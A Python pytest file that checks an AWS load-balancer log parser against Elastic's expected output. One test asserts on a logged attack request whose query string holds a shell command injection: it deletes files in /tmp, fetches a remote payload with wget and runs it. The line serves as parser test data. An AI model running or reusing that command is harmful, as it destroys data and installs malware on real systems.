"""ALB/NLB/ELB parsing against Elastic's oracle, plus the edge cases the oracle does not cover."""

from __future__ import annotations

import pytest
from oracle import assert_fields, expected, parse_file, sample

ORACLE_FIELDS = [
    "@timestamp",
    "source.ip",
    "source.port",
    "http.response.status_code",
    "http.request.method",
    "http.version",
    "url.original",
    "url.path",
    "url.query",
    "url.scheme",
    "url.port",
    "user_agent.original",
    "event.outcome",
    "trace.id",
]


def test_alb_matches_elastic_oracle() -> None:
    events, letters = parse_file(sample("alb/test-alb.log"))
    oracle = expected(sample("alb/test-alb.log-expected.json"))
    assert not letters
    assert len(events) == len(oracle) == 10
    for i, (ours, theirs) in enumerate(zip(events, oracle, strict=True)):
        fields = ORACLE_FIELDS
        if "source" not in theirs:  # connection logs: we keep source.* and the mTLS outcome, Elastic does not
            fields = [f for f in ORACLE_FIELDS if not f.startswith("source.") and f != "event.outcome"]
        assert_fields(ours, theirs, fields, label=f"line {i}")
        assert ours["event"]["dataset"] == "aws.alb"


def test_alb_https_ipv6_and_target() -> None:
    events, letters = parse_file(sample("alb/alb_al_valid_logs.log"))
    assert not letters and len(events) == 2
    v6 = events[1]
    assert v6["source"] == {"ip": "fe80::202:b3ff:fe1e:8329", "address": "fe80::202:b3ff:fe1e:8329", "port": 443}
    assert v6["destination"]["ip"] == "2001:db8::1"
    assert v6["related"]["ip"] == ["fe80::202:b3ff:fe1e:8329", "2001:db8::1"]
    assert v6["tls"]["version"] == "1.2"
    assert v6["aws"]["elb"]["conn_trace_id"] == "TID_1234abcd5678ef90"


def test_alb_url_with_space_and_waf_classification() -> None:
    events, _ = parse_file(sample("alb/test-alb.log"))
    attack = events[1]
    assert attack["url"]["path"] == "/shell"
    assert attack["url"]["query"] == "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    assert attack["aws"]["elb"]["classification"] == "Acceptable"
    assert attack["aws"]["elb"]["classification_reason"] == "SpaceInUri"
    assert attack["aws"]["elb"]["redirect_url"].startswith("https://127.0.0.1:443/shell")


def test_classic_elb_line(tmp_path) -> None:
    line = (
        "2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 "
        '0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -\n'
    )
    f = tmp_path / "elb.log"
    f.write_text(line)
    events, letters = parse_file(f, "aws.alb")
    assert not letters
    assert events[0]["aws"]["elb"]["type"] == "classic"
    assert events[0]["source"]["ip"] == "192.168.131.39"
    assert events[0]["http"]["request"]["method"] == "GET"


@pytest.mark.parametrize("garbage", ["http not-a-time x", "http", "tls 2.0 short"])
def test_garbage_line_is_dead_lettered_with_position(tmp_path, garbage: str) -> None:
    good = sample("alb/alb_al_valid_logs.log").read_text().splitlines()[0]
    f = tmp_path / "mixed.log"
    f.write_text(f"{good}\n{garbage}\n{good}\n")
    events, letters = parse_file(f, "aws.alb")
    assert len(events) == 2
    assert len(letters) == 1
    assert letters[0].offset == len(good) + 1
    assert letters[0].stage == "map" and letters[0].reason
    assert letters[0].raw == garbage
